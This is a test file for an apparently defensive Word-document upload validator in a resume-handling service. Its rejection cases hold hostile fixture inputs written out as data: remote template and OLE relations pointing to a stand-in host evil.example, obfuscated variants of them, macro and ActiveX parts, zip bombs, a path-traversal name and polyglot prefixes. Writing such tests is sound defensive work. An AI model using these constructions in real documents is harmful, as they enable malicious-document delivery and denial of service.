import { randomBytes } from 'node:crypto';
import { expect, it, test } from 'vitest';
import { buildZip, type ZipPart } from '../../tests/support/fixtures/resumes/build-zip.ts';
import { resumes } from '../../tests/support/fixtures/resumes/resumes.ts';
import { isDocument } from './document.ts';

const mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const typesPart = (extra = ''): ZipPart => ({
  name: '[Content_Types].xml',
  content: `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${mainType}"/>${extra}</Types>`,
});
const namespace = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const documentXml = `<?xml version="1.0"?>\r\n<w:document xmlns:w="${namespace}"><w:body/></w:document>`;
const document: ZipPart = { name: 'word/document.xml', content: documentXml };
const parts = (...more: ZipPart[]) => [typesPart(), document, ...more];
const isAccepted = (bytes: Buffer) => isDocument({ extension: '.docx', bytes });

const relation = (type: string, target: string, mode = 'External'): ZipPart => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
});

const utf16 = (text: string) => Buffer.from(text, 'utf16le');
const template = String(relation('attachedTemplate', 'https://evil.example/a.dotm').content);
const rels = (content: string | Buffer): ZipPart => ({ name: 'word/_rels/settings.xml.rels', content });
const prefixed = template.replaceAll('<R', '<a-b:R').replaceAll('</R', '</a-b:R').replace('s>', 's xmlns:a-b="a">');

const megabyte = 1024 * 1024;
const zeros = (size: number) => Buffer.alloc(size);
const picture = { name: 'word/media/image1.png', content: randomBytes(50_000) };

test.each<[string, Buffer]>([
  ['its two parts', buildZip(parts())],
  ['a picture, stored as it is', buildZip(parts({ ...picture, method: 0 }))],
  [
    'folders and empty parts',
    buildZip(parts({ name: 'word/', content: '', method: 0 }, { name: 'a.xml', content: '' })),
  ],
  ['a comment', buildZip(parts(), { comment: Buffer.from('made by hand') })],
  ['sizes after the data', buildZip([{ ...typesPart(), flags: 8, localSize: 0 }, document])],
  ['a numbered main part', buildZip([typesPart(), { ...document, name: 'word/document2.xml' }])],
  ['a blank picture that packs well', buildZip(parts({ name: 'word/media/blank.emf', content: zeros(900_000) }))],
  ['a template on a disk', buildZip(parts(relation('attachedTemplate', 'file:///C:\\Users\\Ann\\Resume.dotx')))],
  ['links', buildZip(parts(relation('hyperlink', 'https://www.example.com/?a=1&amp;b=2')))],
  ['a picture on the web', buildZip(parts(relation('image', 'https://www.example.com/me.png')))],
  ['a theme of its own', buildZip(parts(relation('theme', 'theme/theme1.xml', 'Internal')))],
  ['parts in UTF-16', buildZip([typesPart(), { ...document, content: utf16(`\uFEFF${documentXml}`) }])],
  ['no prefix', buildZip([typesPart(), { ...document, content: `<document xmlns="${namespace}"/>` }])],
  [
    'a thousand links',
    buildZip(parts(rels(`<a>${'<Relationship Id="r1" Target="https://a.example/"/>'.repeat(1000)}</a>`))),
  ],
  ['hundreds of parts', buildZip(parts(...Array.from({ length: 500 }, (_, i) => ({ name: `a${i}`, content: 'a' }))))],
])('accepts a document with %s', (_, bytes) => {
  expect(isAccepted(bytes)).toBe(true);
});

const macroType = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
const bomb = { name: 'word/media/bomb', content: zeros(8 * megabyte) };

test.each<[string, Buffer]>([
  ['no parts', buildZip([])],
  ['no content types', buildZip([document])],
  ['no document', buildZip([typesPart(), { name: 'xl/workbook.xml', content: '<workbook/>' }])],
  ['a document that is a web page', buildZip([typesPart(), { ...document, content: `<html>${namespace}</html>` }])],
  ['a document that is no XML', buildZip([typesPart(), { ...document, content: randomBytes(500) }])],
  ['a macro part', buildZip(parts({ name: 'word/vbaProject.bin', content: 'x' }))],
  ['a macro part in capitals', buildZip(parts({ name: 'WORD/VBAPROJECT.BIN', content: 'x' }))],
  ['a renamed macro part', buildZip([typesPart(macroType), document, { name: 'word/x.bin', content: 'x' }])],
  ['a macro type in disguise', buildZip([typesPart(macroType.replace('vba', '&#118;ba')), document])],
  ['an ActiveX control', buildZip(parts({ name: 'word/activeX/activeX1.bin', content: 'x' }))],
  ['a macro workbook inside', buildZip(parts({ name: 'word/embeddings/book.xlsm', content: 'x' }))],
  ['a template on the web', buildZip(parts(relation('attachedTemplate', 'https://evil.example/a.dotm')))],
  ['a template on a share', buildZip(parts(relation('attachedTemplate', 'file:///\\\\evil.example\\a.dotm')))],
  ['a template on a host', buildZip(parts(relation('attachedTemplate', 'file://evil.example/a.dotm')))],
  ['an object on the web', buildZip(parts(relation('oleObject', 'mhtml:http://evil.example/a.html!x')))],
  ['a frame on the web', buildZip(parts(relation('frame', '\\\\evil.example\\a')))],
  ['a template in disguise', buildZip(parts(relation('attachedTemplate', '&#104;ttps://evil.example/a.dotm')))],
  ['a template in UTF-16', buildZip(parts(rels(utf16(`\uFEFF${template}`))))],
  ['a template in UTF-16 without a mark', buildZip(parts(rels(utf16(template))))],
  ['a template in UTF-16, big-endian', buildZip(parts(rels(utf16(`\uFEFF${template}`).swap16())))],
  ['a template in UTF-7', buildZip(parts(rels('<?xml version="1.0" encoding="utf-7"?><Relationships/>')))],
  ['a template behind a prefix', buildZip(parts(rels(prefixed)))],
  ['a template after a ">"', buildZip(parts(rels(template.replace('rId1', 'a>b'))))],
  ['a template with blanks', buildZip(parts(rels(template.replaceAll('="', '\n=\t" '))))],
  ['a template in single quotes', buildZip(parts(rels(template.replaceAll('"', "'"))))],
  ['a template behind an entity', buildZip(parts(rels(template.replace('<R', '<!DOCTYPE a [<!ENTITY e "x">]><R'))))],
  ['relations that are not well-formed', buildZip(parts(rels(template.replace('/>', '>'))))],
  ['3 MB of relations', buildZip(parts({ ...rels(`<a>${randomBytes(1_500_000).toString('hex')}</a>`) }))],
  ['an encrypted part', buildZip(parts({ ...picture, flags: 1 }))],
  ['an unknown compression', buildZip(parts({ ...picture, method: 12 }))],
  ['10,000 parts', buildZip(parts(...Array.from({ length: 10_000 }, (_, i) => ({ name: `a${i}`, content: 'a' }))))],
  ['a bomb by declared size', buildZip(parts({ name: 'a', content: 'a', size: 0xfffffffe }))],
  ['a bomb by real ratio', buildZip(parts(bomb))],
  ['a bomb that declares little', buildZip(parts({ ...bomb, size: 1000 }))],
  [
    'many bombs below the ratio',
    buildZip(parts(...Array.from({ length: 50 }, (_, i) => ({ name: `a${i}`, content: zeros(megabyte - 1) })))),
  ],
  [
    'a document that is a bomb',
    buildZip([
      typesPart(),
      {
        ...document,
        content: Buffer.concat([Buffer.from(documentXml), zeros(8 * megabyte)]),
        size: documentXml.length,
      },
    ]),
  ],
  ['a size that is too large', buildZip(parts({ name: 'a', content: 'abc', size: 4 }))],
  ['a packed size beyond the end', buildZip(parts({ name: 'a', content: 'abc', packedSize: 100_000 }))],
  ['headers that disagree on a size', buildZip(parts({ name: 'a', content: 'abc', localSize: 4 }))],
  ['headers that disagree on a name', buildZip(parts({ name: 'a.txt', content: 'abc', localName: 'a.exe' }))],
  [
    'two parts in one place',
    buildZip(parts({ ...typesPart(), name: 'b', localName: '[Content_Types].xml', offset: 0 })),
  ],
  ['a part outside the file', buildZip(parts({ name: 'a', content: 'a', offset: 0xfffffff0 }))],
  ['the same name twice', buildZip(parts({ ...document, name: 'word/Document.xml' }))],
  ['a path that leaves its folder', buildZip(parts({ name: '../../evil.exe', content: 'MZ' }))],
  ['data between its parts and its directory', buildZip(parts(), { beforeDirectory: Buffer.alloc(100, 'x') })],
  ['data between its directory and its end', buildZip(parts(), { beforeEnd: Buffer.alloc(100, 'x') })],
  ['a ZIP64 locator', buildZip(parts({ name: `PK\x06\x07${'0'.repeat(16)}`, content: 'a' }))],
  ['two ends', buildZip(parts(), { comment: buildZip([]) })],
  ['something before it', buildZip(parts(), { prefix: Buffer.from('#!/bin/sh\n') })],
  ['a PDF before it', buildZip(parts(), { prefix: resumes['chromium.pdf'] })],
  ['a PDF as its first part', buildZip([{ name: 'cv.pdf', content: resumes['chromium.pdf'], method: 0 }, ...parts()])],
  ['something after it', Buffer.concat([buildZip(parts()), Buffer.from('<?php')])],
])('refuses a document with %s', (_, bytes) => {
  expect(isAccepted(bytes)).toBe(false);
});

/** Changes to the first local header, the last directory entry or the end record alone. */
test.each<[string, signature: string, field: number, value: number]>([
  ['encrypted by its directory', 'PK\x01\x02', 8, 1],
  ['encrypted by its local header', 'PK\x03\x04', 6, 1],
  ['compressed otherwise by its local header', 'PK\x03\x04', 8, 0],
  ['on a second disk', 'PK\x05\x06', 4, 1],
  ['with more parts than on this disk', 'PK\x05\x06', 8, 1],
  ['with a directory of another size', 'PK\x05\x06', 12, 10],
])('refuses a document %s', (_, signature, field, value) => {
  const bytes = buildZip(parts());
  const header = signature === 'PK\x03\x04' ? 0 : bytes.lastIndexOf(signature);
  bytes.writeUInt16LE(value, header + field);
  expect(isAccepted(bytes)).toBe(false);
});

it('refuses a part whose content was changed', () => {
  const bytes = buildZip(parts({ name: 'a', content: 'a secret', method: 0 }));
  bytes[bytes.indexOf('a secret')] = 0x62;
  expect(isAccepted(bytes)).toBe(false);
});
